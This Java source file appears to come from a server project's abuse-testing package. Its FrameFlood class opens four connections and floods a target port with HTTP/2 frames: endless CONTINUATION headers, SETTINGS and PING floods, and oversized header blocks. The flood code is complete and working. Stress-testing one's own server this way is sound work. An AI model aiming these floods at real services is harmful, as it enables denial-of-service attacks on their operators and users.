package io.tokenbroker.server.abuse;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;

/**
 * Frames that cost whoever sends them nothing, as fast as sockets take them, on four connections.
 */
final class FrameFlood implements Attack {
  private static final int CONNECTIONS = 4;
  private static final int BURST = 200;
  private static final int METHOD_HEADERS = 1;

  /** What is sent in a burst, and again. */
  private interface Burst {
    void send(FrameSocket socket, int number) throws IOException;
  }

  private final Burst burst;
  private final boolean reads;

  private FrameFlood(Burst burst, boolean reads) {
    this.burst = burst;
    this.reads = reads;
  }

  /** A header that has no end: each frame is a bit more of it, or nothing at all. */
  static FrameFlood ofContinuations() {
    byte[] more = header(METHOD_HEADERS, 16);
    return new FrameFlood(
        (socket, number) -> {
          if (number == 0) {
            socket.frame(FrameSocket.HEADERS, 0, 1, Headers.of("x/y"));
          }
          for (int i = 0; i < BURST; i++) {
            socket.frame(FrameSocket.CONTINUATION, 0, 1, i % 2 == 0 ? more : new byte[0]);
          }
        },
        true);
  }

  /** Each asks for an answer, which is read. */
  static FrameFlood ofSettings() {
    byte[] settings = ByteBuffer.allocate(6).putShort((short) 4).putInt(65_535).array();
    return same(FrameSocket.SETTINGS, settings, true);
  }

  /** Each asks for an answer, which nobody reads. */
  static FrameFlood ofUnreadSettings() {
    byte[] settings = ByteBuffer.allocate(6).putShort((short) 4).putInt(65_535).array();
    return same(FrameSocket.SETTINGS, settings, false);
  }

  static FrameFlood ofPings() {
    return same(FrameSocket.PING, new byte[8], true);
  }

  static FrameFlood ofUnreadPings() {
    return same(FrameSocket.PING, new byte[8], false);
  }

  private static FrameFlood same(int type, byte[] payload, boolean reads) {
    return new FrameFlood(
        (socket, number) -> {
          for (int i = 0; i < BURST; i++) {
            socket.frame(type, 0, 0, payload);
          }
        },
        reads);
  }

  /** Calls with a MiB of headers. */
  static FrameFlood ofHugeHeaders() {
    byte[] big = header(120, 120);
    return new FrameFlood(
        (socket, number) -> {
          int stream = 2 * number + 1;
          socket.frame(FrameSocket.HEADERS, 0, stream, Headers.of("x/y"));
          for (int i = 0; i < 64; i++) {
            socket.frame(
                FrameSocket.CONTINUATION, i == 63 ? FrameSocket.END_HEADERS : 0, stream, big);
          }
        },
        true);
  }

  /** Literal headers, not indexed. */
  private static byte[] header(int count, int length) {
    ByteArrayOutputStream block = new ByteArrayOutputStream();
    byte[] text = "x".repeat(length).getBytes(StandardCharsets.US_ASCII);
    for (int i = 0; i < count; i++) {
      block.write(0);
      block.write(text.length);
      block.writeBytes(text);
      block.write(text.length);
      block.writeBytes(text);
    }
    byte[] all = block.toByteArray();
    return all.length <= 16 * 1024 ? all : Arrays.copyOf(all, 16 * 1024);
  }

  @Override
  public void run(Target target) {
    for (int i = 0; i < CONNECTIONS; i++) {
      Thread thread = new Thread(() -> attack(target), "flood " + i);
      thread.setDaemon(true);
      thread.start();
    }
    target.awaitEnd();
  }

  private void attack(Target target) {
    while (!target.isOver()) {
      // one connection after the other, as the broker closes them
      try (FrameSocket socket = new FrameSocket(target.port(), 2)) {
        for (int number = 0; !target.isOver(); number++) {
          burst.send(socket, number);
          socket.flush();
          if (reads) {
            socket.drain();
          }
        }
      } catch (IOException e) {
        // the next one
      }
    }
  }
}
